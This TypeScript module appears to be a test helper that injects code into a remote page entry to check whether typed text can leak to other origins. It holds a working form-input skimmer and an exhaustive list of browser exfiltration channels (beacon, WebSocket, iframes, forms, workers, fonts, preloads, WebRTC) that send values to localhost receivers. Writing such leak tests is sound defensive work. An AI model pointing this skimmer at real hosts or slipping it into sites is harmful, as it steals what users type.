/** Ports of the receivers by channel. */
type Ports = Readonly<Record<string, number>>;

declare global {
  /** The channels that a page has tried, with promises that resolve when each has finished. */
  var triedWays: { readonly names: string[]; readonly ends: Promise<unknown>[] } | undefined;
  /** Remotes whose code in this document leaks typed text. */
  var leakingRemotes: string[] | undefined;
}

/**
 * Tries to send a text to other origins through every channel of a browser. Runs in a page or in a worker that it
 * starts, so it must not use outer variables. A channel is settled by its own event, or after a timeout if it has
 * none.
 */
function tryWaysOut(ports: Ports, entry: string, typed: string): void {
  const addressOf = (way: string) => `http://127.0.0.1:${ports[way]}/${encodeURIComponent(typed)}`;
  const ended = (target: EventTarget, ...kinds: string[]) =>
    Promise.race([
      ...kinds.map(
        (kind) => new Promise((resolve) => target.addEventListener(kind, resolve, { once: true })),
      ),
      new Promise((resolve) => setTimeout(resolve, 3000)),
    ]);
  const added = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    attributes: Readonly<Record<string, string>>,
  ) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return ended(element, 'load', 'error');
  };
  const link = (rel: string, more: Readonly<Record<string, string>> = {}) => added('link', { rel, ...more });
  const ways: Readonly<Record<string, (url: string) => unknown>> = {
    image: (url) => {
      const image = new Image();
      image.src = url;
      return ended(image, 'load', 'error');
    },
    srcset: (srcset) => added('img', { srcset: `${srcset} 2x` }),
    css(url) {
      document.body.style.backgroundImage = `url("${url}")`;
    },
    stylesheet: (href) => link('stylesheet', { href }),
    fetch: (url) => fetch(url, { mode: 'no-cors' }),
    keepalive: (body) => fetch(body, { mode: 'no-cors', method: 'POST', keepalive: true, body: typed }),
    xhr: (url) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
      return ended(request, 'loadend');
    },
    beacon: (url) => navigator.sendBeacon(url, typed),
    eventsource: (url) => ended(new EventSource(url), 'open', 'error'),
    websocket: (url) => ended(new WebSocket(url.replace('http', 'ws')), 'open', 'error'),
    frame: (src) => added('iframe', { src }),
    object: (data) => added('object', { data }),
    embed: (src) => added('embed', { src }),
    form(action) {
      const name = 'sent-form';
      void added('iframe', { name });
      const form = document.createElement('form');
      Object.assign(form, { action, method: 'post', target: name });
      document.body.append(form);
      form.submit();
    },
    script: (src) => added('script', { src }),
    'module import': (url) => import(url),
    font: (url) => new FontFace('out', `url("${url}")`).load(),
    media: (src) => added('video', { src }),
    poster: (poster) => added('video', { poster }),
    prefetch: (href) => link('prefetch', { href }),
    preload: (href) => link('preload', { href, as: 'fetch', crossorigin: '' }),
    modulepreload: (href) => link('modulepreload', { href }),
    preconnect: (href) => link('preconnect', { href }),
    icon: (href) => link('icon', { href }),
    manifest: (href) => link('manifest', { href }),
    'blob worker': (url) =>
      ended(new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url)})`]))), 'error'),
    'published worker': (url) => ended(new Worker(`${entry}#${url}`), 'error'),
    'empty frame': (url) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      return frame.contentWindow?.fetch(url, { mode: 'no-cors' });
    },
    'frame of a file': (url) => {
      const frame = document.createElement('iframe');
      frame.src = '/robots.txt';
      document.body.append(frame);
      return ended(frame, 'load').then(() => frame.contentWindow?.fetch(url, { mode: 'no-cors' }));
    },
    window: (url) => open(url),
    async webrtc() {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${ports.webrtc}` }] });
      connection.createDataChannel('out');
      await connection.setLocalDescription(await connection.createOffer());
      await ended(connection, 'icegatheringstatechange');
    },
  };
  const tried = (globalThis.triedWays ??= { names: [], ends: [] });
  for (const [way, send] of Object.entries(ways)) {
    const end = (async () => send(addressOf(way)))();
    tried.names.push(way);
    tried.ends.push(end.catch(() => undefined));
  }
}

/** Every channel that is tried. */
export const waysOut = [
  ...[
    'image',
    'srcset',
    'css',
    'stylesheet',
    'fetch',
    'keepalive',
    'xhr',
    'beacon',
    'eventsource',
    'websocket',
  ],
  ...['frame', 'object', 'embed', 'form', 'script', 'module import', 'font', 'media', 'poster'],
  ...['prefetch', 'preload', 'modulepreload', 'preconnect', 'icon', 'manifest'],
  ...['blob worker', 'published worker', 'empty frame', 'frame of a file', 'window', 'webrtc'],
] as const;

/**
 * Code for the beginning of a remote's entry: sends typed text through every channel, and, as a worker, fetches the
 * address behind `#`. `entry` is the entry's own address, `remote` its name.
 */
export const leakingCode = (ports: Ports, remote: string, entry: string): string => `
(() => {
if (typeof document === 'undefined') return void fetch(location.hash.slice(1)).catch(() => undefined);
(globalThis.leakingRemotes ??= []).push(${JSON.stringify(remote)});
addEventListener('change', (event) =>
  (${tryWaysOut.toString()})(${JSON.stringify(ports)}, ${JSON.stringify(entry)}, event.target.value));
})();
`;
